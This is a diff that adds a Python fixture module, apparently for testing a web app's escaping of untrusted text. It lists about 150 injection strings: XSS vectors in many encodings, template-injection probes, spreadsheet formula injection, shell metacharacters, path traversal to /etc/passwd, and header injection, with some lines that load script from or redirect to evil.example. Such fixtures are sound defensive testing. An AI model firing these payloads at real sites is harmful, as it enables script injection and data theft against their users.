@@ -1,0 +1,185 @@
+"""Strings that would do something if a page took them for more than text.
+
+Each, where it ran, would set `window.__x` or open a dialog, or would change what a reader sees.
+What a store refuses stands in `UNSTORABLE`.
+"""
+
+from __future__ import annotations
+
+_SCRIPTS = (
+    "<script>window.__x=1</script>",
+    "<SCRIPT>window.__x=1</SCRIPT>",
+    "<script >window.__x=1</script >",
+    "<script/x>window.__x=1</script/x>",
+    "<scr<script>ipt>window.__x=1</scr</script>ipt>",
+    "<script>window.__x=1//",
+    "<<script>window.__x=1//<</script>",
+    "</title><script>window.__x=1</script>",
+    "</textarea><script>window.__x=1</script>",
+    "</style><script>window.__x=1</script>",
+    "</script><script>window.__x=1</script>",
+    "</noscript><script>window.__x=1</script>",
+    "--><script>window.__x=1</script><!--",
+    "]]><script>window.__x=1</script>",
+    "<![CDATA[<script>window.__x=1</script>]]>",
+    "<script src=//evil.example/x.js></script>",
+    "<script type=module>window.__x=1</script>",
+    "<script>/*</script><script>*/window.__x=1</script>",
+)
+_HANDLERS = (
+    "<img src=x onerror=window.__x=1>",
+    "<img/src=x/onerror=window.__x=1>",
+    "<img src=x onerror=alert(1)//",
+    '<img """><script>window.__x=1</script>">',
+    "<IMG SRC=`javascript:window.__x=1` onerror=window.__x=1>",
+    "<body onload=window.__x=1>",
+    "<input autofocus onfocus=window.__x=1>",
+    "<select autofocus onfocus=window.__x=1>",
+    "<textarea autofocus onfocus=window.__x=1>",
+    "<details open ontoggle=window.__x=1>more</details>",
+    "<video><source onerror=window.__x=1></video>",
+    "<audio src=x onerror=window.__x=1>",
+    "<marquee onstart=window.__x=1>move</marquee>",
+    "<div onpointerover=window.__x=1 style=position:fixed;inset:0>over</div>",
+    "<p tabindex=1 onfocus=window.__x=1 id=y>focus</p>",
+    "<style onload=window.__x=1></style>",
+    "<iframe onload=window.__x=1></iframe>",
+    "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>",
+    "<object data=data:text/html,<script>parent.__x=1</script>></object>",
+    "<embed src=javascript:window.__x=1>",
+    "<form action=//evil.example><button>Find</button></form>",
+    "<button form=search formaction=javascript:window.__x=1>Find</button>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>*{display:none}</style>",
+    "<style>@import'//evil.example/x.css';</style>",
+    "<dialog open>Your session has ended</dialog>",
+    "<template><script>window.__x=1</script></template>",
+    "<x onclick=window.__x=1 contenteditable>click</x>",
+)
+_DRAWINGS = (
+    "<svg onload=window.__x=1>",
+    "<svg/onload=window.__x=1//",
+    "<svg><script>window.__x=1</script></svg>",
+    "<svg><script xlink:href=data:,window.__x=1></script></svg>",
+    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:window.__x=1><text y=9>go</text></a></svg>",
+    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
+    "<svg><style><img src=x onerror=window.__x=1></style></svg>",
+    "<svg><use href='//evil.example/x.svg#y'/></svg>",
+    "</text></svg><script>window.__x=1</script>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__x=1>",
+    "<math href=javascript:window.__x=1>go</math>",
+    "<math><annotation-xml encoding=text/html><img src=x onerror=window.__x=1>",
+)
+_ADDRESSES = (
+    "javascript:window.__x=1",
+    "JaVaScRiPt:window.__x=1",
+    "javascript:alert(1)//https://example.org/",
+    "javascript&colon;window.__x=1",
+    "&#106;avascript:window.__x=1",
+    "data:text/html,<script>opener.__x=1</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:msgbox(1)",
+    "//evil.example/",
+    "https://evil.example/?q=<script>window.__x=1</script>",
+    "/\\evil.example",
+    "../../../../etc/passwd",
+    "<a href=javascript:window.__x=1>go</a>",
+    "<area href=javascript:window.__x=1 coords=0,0,99,99 shape=rect>",
+)
+_ATTRIBUTES = (
+    '" onmouseover="window.__x=1',
+    "' onmouseover='window.__x=1",
+    '" autofocus onfocus="window.__x=1" x="',
+    "' autofocus onfocus='window.__x=1' x='",
+    '"><img src=x onerror=window.__x=1>',
+    "'><img src=x onerror=window.__x=1>",
+    '"/><svg onload=window.__x=1>',
+    "` onmouseover=window.__x=1 `",
+    " onmouseover=window.__x=1 ",
+    '" style="background:url(//evil.example/x)',
+    "' style='position:fixed;inset:0",
+    '" class="top" id="main',
+    '"; window.__x=1; //',
+    "'; window.__x=1; //",
+    "\\'; window.__x=1; //",
+    "${window.__x=1}",
+    "`;window.__x=1;`",
+)
+_ESCAPES = (
+    "&lt;script&gt;window.__x=1&lt;/script&gt;",
+    "&#60;script&#62;window.__x=1&#60;/script&#62;",
+    "&#x3c;img src=x onerror=window.__x=1&#x3e;",
+    "\\u003cscript\\u003ewindow.__x=1\\u003c/script\\u003e",
+    "\\x3cscript\\x3ewindow.__x=1\\x3c/script\\x3e",
+    "%3Cscript%3Ewindow.__x=1%3C/script%3E",
+    "%253Cscript%253Ewindow.__x=1%253C/script%253E",
+    "\uff1cscript\uff1ewindow.__x=1\uff1c/script\uff1e",
+    "\u02bascript\u02ba onerror=window.__x=1",
+    "+ADw-script+AD4-window.__x=1+ADw-/script+AD4-",
+    "\u2028window.__x=1\u2029",
+)
+_TEMPLATES = (
+    "{{7*7}}",
+    "{{ config.items() }}",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "{% raw %}x{% endraw %}",
+    "{% include '/etc/passwd' %}",
+    "{# left out #}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{{constructor.constructor('window.__x=1')()}}",
+    "%s %d %(name)s {0} {name}",
+    "$(id) `id` ; id | id && id",
+)
+_MARKUP = (
+    "[go](javascript:window.__x=1)",
+    "![x](//evil.example/x.png)",
+    "**bold** _thin_ `code` # head",
+    "| a | b |\n|---|---|\n| 1 | 2 |",
+    "<https://evil.example/>",
+    "[bold red]loud[/] [link=https://evil.example]go[/link]",
+    '=HYPERLINK("https://evil.example","go")',
+    "=cmd|'/c calc'!A0",
+    "@SUM(1+1)*cmd",
+    '" } UNION { ?s ?p ?o } #',
+    "> . <urn:x> <urn:y> <urn:z",
+    '"@en . <urn:x> <urn:y> "z',
+    "'; DROP ALL; --",
+    '\\" ?s ?p ?o . FILTER(true) #',
+)
+_DISPLAY = (
+    "\u202egnitset\u202c turned",
+    "\u2066isolated\u2069 and \u2067more\u2069",
+    "zero\u200bwidth\u200cjoin\u200der\ufeff",
+    "a" * 280,
+    "\u0301" * 40 + "stacked",
+    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1fa\U0001f1f3",
+    "\u05d0\u05d1\u05d2 mixed \u0627\u0628\u062a with 123",
+    "W" * 120 + " " + "i" * 120,
+)
+
+_CONTROLS = (
+    "\x1b[31mred\x1b[0m<img src=x onerror=window.__x=1>",
+    "\x08\x08\x08<script>window.__x=1</script>",
+    "java\tscript:window.__x=1",
+    "java\nscript:window.__x=1",
+    "\x85\x9b31m<svg onload=window.__x=1>",
+    "\ufffe\uffff<svg onload=window.__x=1>",
+    "x\r\nSet-Cookie: x=1\r\n\r\n<script>window.__x=1</script>",
+)
+
+PAYLOADS: tuple[str, ...] = (
+    *_SCRIPTS, *_HANDLERS, *_DRAWINGS, *_ADDRESSES, *_ATTRIBUTES, *_ESCAPES, *_TEMPLATES,
+    *_MARKUP, *_DISPLAY, *_CONTROLS,
+)  # fmt: skip
+
+UNSTORABLE: tuple[str, ...] = (
+    "\x00<script>window.__x=1</script>",
+    "java\x00script:window.__x=1",
+    "x" * 20_000 + "<script>window.__x=1</script>",
+)
+"""For the query string alone: what no stored text can hold, and what is too long for a name."""
